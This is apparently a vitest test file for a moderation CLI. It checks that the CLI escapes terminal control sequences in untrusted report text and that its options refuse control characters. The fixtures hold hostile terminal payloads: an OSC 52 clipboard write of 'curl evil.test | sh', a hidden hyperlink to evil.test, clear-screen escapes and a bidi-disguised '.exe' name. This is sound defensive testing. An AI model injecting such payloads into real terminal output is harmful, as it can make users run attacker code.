import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { runThiqa } from '../../test/support/service-process.ts';
import { openRegistry } from '../db/database.ts';
import { main } from './main.ts';

// What moderators read in their terminal was written by strangers. Rows stored before the
// text policy (or written past it, by hand) may hold terminal escapes: the CLI prints them
// escaped, visibly, in its text and its --json output alike.

const NOW = new Date('2026-11-27T10:00:00Z');
const CLEAR_SCREEN = '\u001b[2J\u001b[H';
const CLIPBOARD_WRITE = `\u001b]52;c;${Buffer.from('curl evil.test | sh').toString('base64')}\u0007`;
const HIDDEN_LINK = '\u001b]8;;https://evil.test/\u001b\\Voir la preuve\u001b]8;;\u001b\\';
const C1_CLEAR = '\u009b2J';
const HOSTILE_DETAILS = `Payé 450 DH${CLEAR_SCREEN}${CLIPBOARD_WRITE} ${HIDDEN_LINK} ${C1_CLEAR} \u202egnp.exe \u2028fin\u0085`;
const HOSTILE_SUMMARY = `Encaisse${CLEAR_SCREEN}\u202e et ne livre pas\nfake.test  fraud  since 2026-01-01  faux`;
const HOSTILE_CATEGORY = `fraud\u001b[8m`;

/** Bytes a terminal would act on: C0 but LF, DEL, C1, bidi controls, line and paragraph separators. */
const ACTIVE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

describe('CLI output of untrusted text', () => {
  let dataDir: string;
  beforeAll(async () => {
    dataDir = await mkdtemp(join(tmpdir(), 'thiqa-untrusted-'));
    const registry = await openRegistry({ pgliteDir: join(dataDir, 'db') });
    try {
      // Written past the policy, as rows from before it, or a hand edit of the database, are.
      const complaint = await registry.db
        .insertInto('complaints')
        .values({
          domain: 'evil-shop.test',
          category: HOSTILE_CATEGORY,
          status: 'open',
          report_receipt: null,
          opened_at: NOW,
          opened_by: 'test',
          note: null,
        })
        .returning('id')
        .executeTakeFirstOrThrow();
      await registry.db
        .insertInto('reports')
        .values({
          receipt: 'AAAAAAAAAAAAAAAAAAAAAA',
          idempotency_key: '6f1c2d3e-4b5a-4c6d-8e7f-9a0b1c2d3e4f',
          request_hash: 'x',
          domain: 'evil-shop.test',
          url: 'http://evil-shop.test/',
          reason: 'fraud',
          details: HOSTILE_DETAILS,
          contact: `a@b.ma${CLEAR_SCREEN}`,
          lang: null,
          client_version: null,
          status: 'accepted',
          public_reason: null,
          complaint_id: complaint.id,
          created_at: NOW,
          updated_at: NOW,
        })
        .execute();
      await registry.db
        .insertInto('flagged_domains')
        .values({
          domain: 'evil-shop.test',
          reason: 'fraud',
          since: '2026-11-27',
          summary: HOSTILE_SUMMARY,
          flagged_by: 'test',
          flagged_at: NOW,
        })
        .execute();
    } finally {
      await registry.close();
    }
  });
  afterAll(async () => rm(dataDir, { recursive: true, force: true }));

  const thiqa = (...args: string[]) => runThiqa({ THIQA_DATA_DIR: dataDir }, ...args);

  // Each `thiqa` child starts tsx and PGlite: seconds apiece on two busy cores.
  const CHILD_PROCESS_MS = 120_000;

  it(
    'thiqa reports list shows the details with every escape sequence visible, and runs none',
    async () => {
      const { code, stdout } = await thiqa('reports', 'list');
      expect(code).toBe(0);
      expect(stdout).not.toMatch(ACTIVE);
      expect(stdout).toContain('Payé 450 DH\\u001b[2J\\u001b[H\\u001b]52;c;');
      expect(stdout).toContain('\\u0007 \\u001b]8;;https://evil.test/\\u001b\\Voir la preuve');
      expect(stdout).toContain('\\u009b2J \\u202egnp.exe \\u2028fin\\u0085');
      expect(stdout.trimEnd().split('\n')).toHaveLength(3);
    },
    CHILD_PROCESS_MS,
  );

  it(
    'thiqa reports list --json stays JSON that gives back the exact details',
    async () => {
      const { code, stdout } = await thiqa('reports', 'list', '--json');
      expect(code).toBe(0);
      expect(stdout).not.toMatch(ACTIVE);
      expect(stdout).toContain('\\u202egnp.exe \\u2028fin\\u0085');
      const [report] = JSON.parse(stdout);
      expect(report.details).toBe(HOSTILE_DETAILS);
      expect(report.contact).toBe(`a@b.ma${CLEAR_SCREEN}`);
    },
    CHILD_PROCESS_MS,
  );

  it(
    'thiqa complaints list, in text and JSON, shows a hostile category escaped',
    async () => {
      const text = await thiqa('complaints', 'list');
      expect(text.code).toBe(0);
      expect(text.stdout).not.toMatch(ACTIVE);
      expect(text.stdout).toContain('fraud\\u001b[8m');
      const json = await thiqa('complaints', 'list', '--json');
      expect(json.stdout).not.toMatch(ACTIVE);
      expect(JSON.parse(json.stdout)[0].category).toBe(HOSTILE_CATEGORY);
    },
    CHILD_PROCESS_MS,
  );

  it(
    'thiqa flags shows a summary on its own line, its line break and escapes visible',
    async () => {
      const { code, stdout } = await thiqa('flags');
      expect(code).toBe(0);
      expect(stdout).not.toMatch(ACTIVE);
      expect(stdout.trimEnd().split('\n')).toEqual([
        'evil-shop.test  fraud  since 2026-11-27  Encaisse\\u001b[2J\\u001b[H\\u202e et ne livre pas\\u000afake.test  fraud  since 2026-01-01  faux',
      ]);
    },
    CHILD_PROCESS_MS,
  );

  it(
    'an error naming what the operator typed shows it escaped on stderr',
    async () => {
      const { code, stderr } = await thiqa('unflag', `evil${CLEAR_SCREEN}.test`);
      expect(code).toBe(1);
      expect(stderr).not.toMatch(ACTIVE);
      expect(stderr).toContain('evil\\u001b[2J\\u001b[H.test');
    },
    CHILD_PROCESS_MS,
  );
});

describe('moderators’ CLI options and the text policy', () => {
  let dataDir: string;
  const savedEnv = { ...process.env };
  beforeEach(async () => {
    dataDir = await mkdtemp(join(tmpdir(), 'thiqa-cli-policy-'));
    delete process.env.DATABASE_URL;
    process.env.THIQA_DATA_DIR = dataDir;
  });
  afterEach(async () => {
    process.env = { ...savedEnv };
    await rm(dataDir, { recursive: true, force: true });
  });

  async function cli(...argv: string[]) {
    const out: string[] = [];
    const err: string[] = [];
    const code = await main(argv, { out: (line) => out.push(line), err: (line) => err.push(line) });
    return { code, stdout: out.join('\n'), stderr: err.join('\n') };
  }

  const RECEIPT = 'AAAAAAAAAAAAAAAAAAAAAA';
  it.each([
    [
      ['reports', 'reject', RECEIPT, '--why', 'Aucun \u202eélément'],
      'thiqa: --why: contains U+202E RIGHT-TO-LEFT OVERRIDE at character 7',
    ],
    [
      ['reports', 'accept', RECEIPT, '--category', 'fraud', '--note', `Vu ${CLEAR_SCREEN}`],
      'thiqa: --note: contains U+001B ESCAPE at character 4',
    ],
    [
      ['complaints', 'resolve', '7', '--note', 'Réglé\u2028par téléphone'],
      'thiqa: --note: contains U+2028 LINE SEPARATOR at character 6',
    ],
    [
      ['flag', 'evil-shop.test', '--reason', 'fraud', '--summary', 'Encaisse\u200b et part'],
      'thiqa: --summary: contains U+200B ZERO WIDTH SPACE at character 9',
    ],
    [
      ['reports', 'reject', RECEIPT, '--why', 'Aucun élément', '--as', 'Salma\u200f'],
      'thiqa: --as: contains U+200F RIGHT-TO-LEFT MARK at character 6',
    ],
    [
      ['complaints', 'resolve', '2147483648'],
      'thiqa: complaints resolve <id>: must be a complaint id, a whole number from 1 to 2147483647',
    ],
  ])('%j is refused with exit 2, naming the option and the character', async (argv, message) => {
    const { code, stderr } = await cli(...argv);
    expect({ code, stderr }).toEqual({ code: 2, stderr: message });
  });
});
